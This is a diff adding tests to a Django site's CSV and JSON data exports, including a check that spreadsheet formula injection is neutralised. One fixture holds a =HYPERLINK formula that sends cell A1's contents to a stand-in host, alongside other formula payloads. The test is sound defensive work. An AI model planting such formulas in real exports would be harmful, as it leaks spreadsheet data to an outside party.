@@ -140,3 +140,25 @@ def test_objectives_export_costs_constant_queries(client, content, django_assert
     with django_assert_max_num_queries(4):
         records = json.loads(download(client, "/donnees/objectifs.json")[1])
     assert len(records) == 31
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_stays_text(client, content):
+    Partner.objects.filter(pk=content["partner"].pk).update(
+        name_fr='=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")',
+        short_name="@SOMME(1+1)",
+        description_fr="-2+3 font 1",
+    )
+    rows = list(csv.DictReader(io.StringIO(download(client, "/donnees/partenaires.csv")[1][1:])))
+    cells = rows[0].values()
+    assert '\'=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")' in cells
+    assert "'@SOMME(1+1)" in cells
+    assert "'-2+3 font 1" in cells
+    partners = json.loads(download(client, "/donnees/partenaires.json")[1])
+    assert partners[0]["nom"].startswith("=HYPERLINK")  # JSON is data, never run
+
+
+def test_times_are_written_alike_in_csv_and_json(client, content):
+    row = next(csv.DictReader(io.StringIO(download(client, "/donnees/actes.csv")[1][1:])))
+    record = json.loads(download(client, "/donnees/actes.json")[1])[0]
+    assert row["en_ligne_depuis"] == record["en_ligne_depuis"]
+    assert len(record["en_ligne_depuis"]) == len("2025-03-12T10:00:00+01:00")
